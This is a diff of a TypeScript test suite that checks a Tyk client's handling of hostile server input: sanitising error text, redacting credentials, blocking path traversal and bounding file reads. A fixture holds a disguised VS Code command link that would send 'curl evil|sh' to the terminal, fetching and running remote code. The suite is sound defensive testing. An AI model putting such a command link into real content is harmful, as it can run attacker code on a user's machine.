@@ -25,6 +25,8 @@ import { MAX_CA_FILE_BYTES, readCaFile } from '../../../src/tyk/tls';
 import { isHttpToken, parseHeaderName, parseListenPath } from '../../../src/domain/validation';
 import { keyFormatLabel } from '../../../src/domain/keyFormats';
 import { json, startFaultServer, type FaultServer } from '../../support/faultServer';
+import { timeBudgetMs } from '../../support/timeBudget';
+import { tykErrorOf } from '../../support/tykError';
 
 const CREDENTIAL = 'c0ffee00d15ea5e5b16b00b5feedface';
 const COMMAND_LINK = '[Update Credential…](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
@@ -32,15 +34,6 @@ const COMMAND_LINK = '[Update Credential…](command:workbench.action.terminal.s
 // eslint-disable-next-line no-control-regex -- finding control characters is the point
 const CONTROL = /[\u0000-\u001f\u007f-\u009f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\u2028\u2029\ufeff]/;
 
-async function caught(fn: () => Promise<unknown>): Promise<TykError> {
-  try {
-    await fn();
-  } catch (e) {
-    assert.ok(e instanceof TykError, `a TykError, not ${String(e)}`);
-    return e;
-  }
-  assert.fail('expected a TykError');
-}
 
 /** Writes `body` in 1 MiB pieces, following backpressure, and ignores the client going away. */
 function stream(res: http.ServerResponse, status: number, body: Buffer, contentType: string): void {
@@ -76,7 +69,7 @@ describe('tyk: hostile input (issue 14)', () => {
       // Cut first: a 32 MB text costs no more than a short one.
       const started = process.hrtime.bigint();
       plainText(`${' \n'.repeat(8 * 1024 * 1024)}[x](command:y)`);
-      assert.ok(Number(process.hrtime.bigint() - started) / 1e6 < 50, 'linear in the bound, not the text');
+      assert.ok(Number(process.hrtime.bigint() - started) / 1e6 < timeBudgetMs(50), 'linear in the bound, not the text');
     });
 
     it('markdownText: every ASCII punctuation character escaped (links, images, HTML, code, autolinks, icons)', () => {
@@ -90,7 +83,7 @@ describe('tyk: hostile input (issue 14)', () => {
       try {
         server.handle((_req, res) => json(res, 500, { Status: 'Error', Message: `${COMMAND_LINK}\r\nInjected line\u202e` }));
         const dashboard = new DashboardClient({ baseUrl: server.url, credential: CREDENTIAL, retryDelayMs: 1 });
-        const e = await caught(() => dashboard.listApisPage(1));
+        const e = await tykErrorOf(() => dashboard.listApisPage(1));
         for (const text of [e.message, e.serverMessage ?? '']) {
           assert.doesNotMatch(text, /\]\(/);
           assert.doesNotMatch(text, CONTROL);
@@ -142,9 +135,9 @@ describe('tyk: hostile input (issue 14)', () => {
         server.handle((_req, res) => stream(res, status, notJson, 'text/html'));
         let error: TykError | undefined;
         const blocked = await longestBlockMs(async () => {
-          error = await caught(() => dashboard.listApisPage(1));
+          error = await tykErrorOf(() => dashboard.listApisPage(1));
         });
-        assert.ok(blocked < 100, `the event loop was blocked ${blocked.toFixed(0)} ms by a ${status}`);
+        assert.ok(blocked < timeBudgetMs(100), `the event loop was blocked ${blocked.toFixed(0)} ms by a ${status}`);
         assert.equal(error?.kind, status === 200 ? 'bad-response' : 'server');
         assert.match(error?.message ?? '', status === 200 ? /not JSON/ : /HTML page/);
         assert.ok((error?.message.length ?? 0) < 700);
@@ -158,9 +151,9 @@ describe('tyk: hostile input (issue 14)', () => {
       server.handle((_req, res) => stream(res, 200, jsonStart, 'application/json'));
       let error: TykError | undefined;
       const blocked = await longestBlockMs(async () => {
-        error = await caught(() => dashboard.listApisPage(1));
+        error = await tykErrorOf(() => dashboard.listApisPage(1));
       });
-      assert.ok(blocked < 100, `blocked ${blocked.toFixed(0)} ms`);
+      assert.ok(blocked < timeBudgetMs(100), `blocked ${blocked.toFixed(0)} ms`);
       assert.equal(error?.code, 'TOO_LARGE');
       assert.match(error?.message ?? '', /larger than 8 MB/);
       dashboard.dispose();
@@ -244,7 +237,7 @@ describe('tyk: hostile input (issue 14)', () => {
         res.end('<html><body>bad gateway</body></html>');
       });
       const dashboard = new DashboardClient({ baseUrl: server.url, credential: CREDENTIAL, retryDelayMs: 1 });
-      const e = await caught(() => dashboard.listApisPage(1));
+      const e = await tykErrorOf(() => dashboard.listApisPage(1));
       assert.match(e.message, /Upstream rejected «redacted»/);
       assert.ok(!e.message.includes(CREDENTIAL));
     });
@@ -255,7 +248,7 @@ describe('tyk: hostile input (issue 14)', () => {
       const redactor = new SecretRedactor();
       redactor.addKeys([listed]);
       const dashboard = new DashboardClient({ baseUrl: server.url, credential: CREDENTIAL, retryDelayMs: 1, redactor });
-      const e = await caught(() => dashboard.listApisPage(1));
+      const e = await tykErrorOf(() => dashboard.listApisPage(1));
       assert.ok(!e.message.includes(listed), e.message);
       assert.match(e.message, /list…0123/);
       assert.equal(redactor.apply(`log ${listed} ${CREDENTIAL}`, [CREDENTIAL]), 'log list…0123 «redacted»');
@@ -330,7 +323,7 @@ describe('tyk: hostile input (issue 14)', () => {
           () => gateway.deleteKey({ id: '.' }),
           () => gateway.getApi('%2e%2E'),
         ]) {
-          await caught(call);
+          await tykErrorOf(call);
         }
         assert.equal(server.requests.length, 0, 'nothing sent');
         dashboard.dispose();
@@ -377,7 +370,7 @@ describe('tyk: hostile input (issue 14)', () => {
       assert.ok(mayRequest('http://10.0.0.5:3000', true));
       // 192.0.2.0/24 is TEST-NET-1: the refusal comes before any connection is tried.
       const remote = new DashboardClient({ baseUrl: 'http://192.0.2.1:3000', credential: CREDENTIAL, timeoutMs: 500 });
-      const e = await caught(() => remote.listApisPage(1));
+      const e = await tykErrorOf(() => remote.listApisPage(1));
       assert.equal(e.code, 'INSECURE_HTTP');
       assert.match(e.message, /allowInsecureHttp/);
     });
@@ -386,7 +379,7 @@ describe('tyk: hostile input (issue 14)', () => {
       const long = `https://x/${'/'.repeat(200_000)}a${'/'.repeat(200_000)}`;
       const started = process.hrtime.bigint();
       assert.equal(trimTrailingSlashes(long), `https://x/${'/'.repeat(200_000)}a`);
-      assert.ok(Number(process.hrtime.bigint() - started) / 1e6 < 50);
+      assert.ok(Number(process.hrtime.bigint() - started) / 1e6 < timeBudgetMs(50));
       assert.equal(credentialBinding('dashboard', 'https://Dash.example.com/'), credentialBinding('dashboard', 'https://dash.example.com'));
       assert.notEqual(credentialBinding('dashboard', 'https://dash.example.com'), credentialBinding('dashboard', 'https://evil.example.com'));
       assert.notEqual(credentialBinding('dashboard', 'https://dash.example.com'), credentialBinding('gateway', 'https://dash.example.com'));
@@ -404,14 +397,14 @@ describe('tyk: hostile input (issue 14)', () => {
       assert.equal((await readCaFile(pem)).toString(), '-----BEGIN CERTIFICATE-----\n');
       const big = path.join(dir, 'big.pem');
       fs.writeFileSync(big, Buffer.alloc(MAX_CA_FILE_BYTES + 1));
-      assert.equal((await caught(() => readCaFile(big))).code, 'CA_FILE_TOO_LARGE');
-      assert.equal((await caught(() => readCaFile(dir))).code, 'CA_FILE_NOT_A_FILE');
-      assert.equal((await caught(() => readCaFile(path.join(dir, 'missing.pem')))).code, 'CA_FILE_UNREADABLE');
+      assert.equal((await tykErrorOf(() => readCaFile(big))).code, 'CA_FILE_TOO_LARGE');
+      assert.equal((await tykErrorOf(() => readCaFile(dir))).code, 'CA_FILE_NOT_A_FILE');
+      assert.equal((await tykErrorOf(() => readCaFile(path.join(dir, 'missing.pem')))).code, 'CA_FILE_UNREADABLE');
       if (process.platform !== 'win32') {
-        assert.equal((await caught(() => readCaFile('/dev/zero'))).code, 'CA_FILE_NOT_A_FILE');
+        assert.equal((await tykErrorOf(() => readCaFile('/dev/zero'))).code, 'CA_FILE_NOT_A_FILE');
         const fifo = path.join(dir, 'fifo');
         execFileSync('mkfifo', [fifo]);
-        assert.equal((await caught(() => readCaFile(fifo))).code, 'CA_FILE_NOT_A_FILE');
+        assert.equal((await tykErrorOf(() => readCaFile(fifo))).code, 'CA_FILE_NOT_A_FILE');
       }
     });
 
